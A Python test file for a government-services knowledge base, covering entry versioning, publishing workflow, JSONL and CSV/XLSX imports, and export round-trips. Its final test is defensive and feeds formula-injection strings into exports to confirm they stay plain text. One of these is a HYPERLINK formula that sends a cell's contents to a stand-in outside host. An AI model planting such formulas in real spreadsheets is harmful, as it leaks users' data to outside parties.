"""Knowledge-base storage against SQLite and PostgreSQL: lifecycle, versions, imports, atomicity."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlalchemy import func, select

from kernel.db import Database
from knowledge_base import store
from knowledge_base.importers import faq_table, gdzwfw
from knowledge_base.importers.rows import ImportFailed
from knowledge_base.models import EntryVersion, Faq, SearchText, ServiceItem, StatusChange

ITEM = {"name": "居住证办理", "aliases": ["办居住证"], "department": "梅州市公安局梅江分局", "materials": ["身份证"]}


async def test_entry_lifecycle_and_versions(database: Database, clock):
    async with database.session() as s:
        item = await store.create_entry(s, "item", dict(ITEM), actor="editor1", now=clock.now())
        assert item.status == "draft" and item.published_version is None
        with pytest.raises(store.KbError, match="不能从“草稿”变为“已发布”"):
            await store.transition(s, "item", item.id, "published", actor="editor1", now=clock.now())
    async with database.session() as s:
        await store.transition(s, "item", item.id, "review", actor="editor1", now=clock.now())
        await store.transition(s, "item", item.id, "published", actor="chief", now=clock.now())
        assert await store.kb_version(s) == 1
        texts = (await s.scalars(select(SearchText.text).where(SearchText.entry_id == item.id))).all()
        assert set(texts) == {"居住证办理", "办居住证", "梅州市公安局梅江分局 居住证办理"}
    # Editing a published entry makes a draft; the published version keeps answering.
    async with database.session() as s:
        edited = await store.edit_entry(s, "item", item.id, {"name": "居住证申领"}, actor="editor2", now=clock.now())
        assert edited.version == 2 and edited.status == "draft" and edited.published_version == 1
        assert (await store.published_data(s, "item", item.id))["name"] == "居住证办理"
        texts = (await s.scalars(select(SearchText.text).where(SearchText.entry_id == item.id))).all()
        assert "居住证申领" not in texts
    # Roll back to version 1, publish, archive: only published entries are searchable.
    async with database.session() as s:
        restored = await store.restore_version(s, "item", item.id, 1, actor="chief", now=clock.now())
        assert restored.version == 3 and restored.name == "居住证办理"
        await store.publish_now(s, "item", restored, actor="chief", now=clock.now(), comment="回滚发布")
        await store.transition(s, "item", item.id, "archived", actor="chief", now=clock.now())
        assert (await store.published_data(s, "item", item.id)) is None
        assert (await s.scalars(select(SearchText).where(SearchText.entry_id == item.id))).all() == []
    async with database.session() as s:
        history = await store.versions(s, "item", item.id)
        assert [(v.version, v.actor) for v in history] == [(1, "editor1"), (2, "editor2"), (3, "chief")]
        changes = (await s.scalars(select(StatusChange).order_by(StatusChange.id))).all()
        assert [c.to_status for c in changes][-1] == "archived"
        assert all(c.actor for c in changes)


async def test_unknown_entry_and_field_are_refused(database: Database, clock):
    async with database.session() as s:
        with pytest.raises(store.KbError, match="找不到事项 #999"):
            await store.transition(s, "item", 999, "review", actor="x", now=clock.now())
        with pytest.raises(store.KbError, match="未知字段"):
            await store.create_entry(s, "faq", {"question": "q", "answer": "a", "bogus": 1}, actor="x", now=clock.now())


def _write_jsonl(path: Path, rows: list[object]) -> Path:
    path.write_text("\n".join(r if isinstance(r, str) else json.dumps(r, ensure_ascii=False) for r in rows))
    return path


GD_ROW = {
    "task_code": "1144TEST0001",
    "name": "测试事项甲",
    "catalog_name": "测试事项",
    "department": "广东省测试厅",
    "type": "行政许可",
    "legal_time_limit": "20(工作日)",
    "promised_time_limit": "5(工作日)",
    "materials": ["申请表"],
    "location": "办理地点：广州市某路1号",
    "online_booking": "是",
}


async def test_gdzwfw_import_creates_updates_and_reports_rows(database: Database, clock, tmp_path: Path):
    good = _write_jsonl(tmp_path / "ok.jsonl", [GD_ROW, {**GD_ROW, "task_code": "1144TEST0002", "name": "测试事项乙"}])
    rows, problems = gdzwfw.read_jsonl(good)
    assert not problems
    assert rows[0]["promised_time_limit"] == "5个工作日" and rows[0]["location"] == "广州市某路1号"
    async with database.session() as s:
        report = await gdzwfw.import_items(s, rows, actor="cli", now=clock.now())
    assert (report.created, report.updated) == (2, 0)
    async with database.session() as s:
        again = await gdzwfw.import_items(s, rows, actor="cli", now=clock.now())
        assert again.unchanged == 2 and await store.kb_version(s) == 1
    changed = [{**rows[0], "promised_time_limit": "3个工作日"}]
    async with database.session() as s:
        upd = await gdzwfw.import_items(s, changed, actor="cli", now=clock.now())
        assert upd.updated == 1
        item = await s.scalar(select(ServiceItem).where(ServiceItem.source_code == "1144TEST0001"))
        assert item.version == 2 and item.published_version == 2

    bad = _write_jsonl(
        tmp_path / "bad.jsonl",
        [GD_ROW, "{not json", {**GD_ROW, "task_code": "", "name": "x"}, {**GD_ROW, "materials": 5}],
    )
    _, problems = gdzwfw.read_jsonl(bad)
    messages = [str(p) for p in problems]
    assert any(m.startswith("第 2 行") and "JSON" in m for m in messages)
    assert "第 3 行，字段“task_code”：不能为空" in messages
    assert "第 4 行，字段“materials”：应为文本列表" in messages


async def test_faq_import_is_all_or_nothing_and_round_trips(database: Database, clock, tmp_path: Path):
    async with database.session() as s:
        await gdzwfw.import_items(
            s, gdzwfw.read_jsonl(_write_jsonl(tmp_path / "i.jsonl", [GD_ROW]))[0], actor="cli", now=clock.now()
        )
    header = "标准问题,相似问题,答案,关联事项编码,分类,标签\n"
    csv_ok = tmp_path / "faq.csv"
    csv_ok.write_text(
        header + '测试事项要什么材料,"要带啥材料\n需要哪些资料",带申请表。,1144TEST0001,测试,"材料，测试"\n'
        "热线几点上班,12345几点有人接,全天 24 小时。,,热线服务,\n",
        encoding="utf-8",
    )
    rows, problems = faq_table.parse_rows(faq_table.read_table(csv_ok))
    assert not problems
    async with database.session() as s:
        report = await faq_table.apply_rows(s, rows, actor="editor", now=clock.now(), publish=True)
    assert report.ok and report.created == 2

    # A bad item code in the last row: nothing of the file is applied.
    csv_bad = tmp_path / "bad.csv"
    csv_bad.write_text(header + "新问题一,,答案一,,,\n新问题二,,答案二,NOPE,,\n", encoding="utf-8")
    rows, problems = faq_table.parse_rows(faq_table.read_table(csv_bad))
    with pytest.raises(ImportFailed, match="第 3 行，字段“item_code”：找不到事项编码 NOPE"):
        async with database.session() as s:
            report = await faq_table.apply_rows(s, rows, actor="editor", now=clock.now(), publish=True)
            if not report.ok:
                raise ImportFailed(report)
    async with database.session() as s:
        assert await store.count(s, Faq) == 2

    missing_answer = tmp_path / "missing.csv"
    missing_answer.write_text(header + "没有答案的问题,,,,,\n", encoding="utf-8")
    _, problems = faq_table.parse_rows(faq_table.read_table(missing_answer))
    assert [str(p) for p in problems] == ["第 2 行，字段“answer”：不能为空"]

    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"export{suffix}"
        async with database.session() as s:
            faq_table.write_table(await faq_table.export_rows(s), out)
        back, problems = faq_table.parse_rows(faq_table.read_table(out))
        assert not problems
        assert {r["question"] for r in back} == {"测试事项要什么材料", "热线几点上班"}
        first = next(r for r in back if r["question"] == "测试事项要什么材料")
        assert first["similar_questions"] == ["要带啥材料", "需要哪些资料"]
        assert first["item_code"] == "1144TEST0001" and first["tags"] == ["材料", "测试"]


async def test_versions_are_unique_per_entry(database: Database, clock):
    async with database.session() as s:
        faq = await store.create_entry(s, "faq", {"question": "问", "answer": "答"}, actor="a", now=clock.now())
        for n in range(3):
            await store.edit_entry(s, "faq", faq.id, {"answer": f"答{n}"}, actor="a", now=clock.now())
    async with database.session() as s:
        rows = (await s.scalars(select(EntryVersion.version).where(EntryVersion.entry_id == faq.id))).all()
        assert sorted(rows) == [1, 2, 3, 4]


async def test_real_catalogue_import_archives_untouched_demo_entries(database: Database, clock):
    from knowledge_base import demo

    async with database.session() as s:
        await demo.load_demo(s, now=clock.now())
    async with database.session() as s:
        faq = await s.scalar(select(Faq).limit(1))
        await store.edit_entry(s, "faq", faq.id, {"answer": "编辑改过的答案"}, actor="editor", now=clock.now())
        await store.publish_now(s, "faq", faq, actor="editor", now=clock.now(), comment="")
        archived = await demo.archive_demo(s, now=clock.now(), actor="cli-import")
    async with database.session() as s:
        published = await s.scalar(select(func.count()).select_from(Faq).where(Faq.published_version.is_not(None)))
        live_items = await s.scalar(
            select(func.count()).select_from(ServiceItem).where(ServiceItem.published_version.is_not(None))
        )
    assert archived > 200
    assert published == 1 and live_items == 0  # the edited FAQ is the editor's now and stays
    # archived entries can be restored
    async with database.session() as s:
        item = await s.scalar(select(ServiceItem).limit(1))
        await store.publish_now(s, "item", item, actor="editor", now=clock.now(), comment="恢复")
        assert (await store.published_data(s, "item", item.id)) is not None


def test_formula_cells_are_text_in_exports_and_round_trip(tmp_path):
    """An editor's (or an imported citizen's) "=HYPERLINK(…)" never becomes a formula in a KB export."""
    import csv

    from openpyxl import load_workbook

    header = [zh for _, zh in faq_table.COLUMNS]
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+86 0753-1234567", "-1+1", "@SUM(A1:A2)", "普通答案"]
    rows = [header, *[[f"问题{i}", "", text, "", "", ""] for i, text in enumerate(hostile)]]

    out_csv = tmp_path / "kb.csv"
    faq_table.write_table(rows, out_csv)
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        raw = list(csv.reader(fh))
    assert [r[2] for r in raw[1:]] == ["'" + t for t in hostile[:4]] + ["普通答案"]

    out_xlsx = tmp_path / "kb.xlsx"
    faq_table.write_table(rows, out_xlsx)
    ws = load_workbook(out_xlsx).active
    cells = [ws.cell(row=i + 2, column=3) for i in range(len(hostile))]
    assert [c.data_type for c in cells] == ["s"] * len(hostile)
    assert [c.value for c in cells] == hostile

    for path in (out_csv, out_xlsx):
        back, problems = faq_table.parse_rows(faq_table.read_table(path))
        assert not problems
        assert [r["answer"] for r in back] == hostile
